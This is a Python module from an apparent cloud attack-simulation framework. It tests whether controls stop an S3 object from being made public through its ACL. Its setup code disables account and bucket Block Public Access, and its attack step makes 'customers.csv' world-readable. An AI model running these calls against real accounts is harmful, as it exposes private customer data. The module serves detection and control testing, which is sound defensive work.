"""Make one object public by its access control list, in an account that is excepted from Block Public Access."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="An object is opened to the world by its ACL",
    mitre=("T1537", "T1530"),
    tactic="exfiltration",
    detectors=("IAM Access Analyzer: public access to a bucket", "GuardDuty Impact:S3/AnomalousBehavior.Permission"),
    expected=Prevented("s3-public-acl"),
    source='Amazon S3 User Guide, "Access control list (ACL) overview"',
)
BLOCKED = dict.fromkeys(("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True)
WORLD = "http://acs.amazonaws.com/groups/global/AllUsers"


def prepare(stage: Stage) -> Scene:
    """A bucket that knows access control lists, and no block anywhere."""
    stage.owner().client("s3control").delete_public_access_block(AccountId=stage.victim)
    bucket, s3 = stage.bucket("website"), stage.owner().client("s3")
    s3.delete_public_access_block(Bucket=bucket)
    s3.put_bucket_ownership_controls(Bucket=bucket, OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]})
    return {"bucket": bucket}


def attack(stage: Stage, scene: Scene) -> None:
    """Let everybody read the object."""
    stage.attacker().client("s3").put_object_acl(Bucket=scene["bucket"], Key="customers.csv", ACL="public-read")


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The object's list names everybody."""
    found = stage.owner().client("s3").get_object_acl(Bucket=scene["bucket"], Key="customers.csv")["Grants"]
    return WORLD in [one["Grantee"].get("URI") for one in found]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the bucket, block public access again."""
    stage.drop_bucket(scene["bucket"])
    stage.owner().client("s3control").put_public_access_block(
        AccountId=stage.victim, PublicAccessBlockConfiguration=BLOCKED
    )
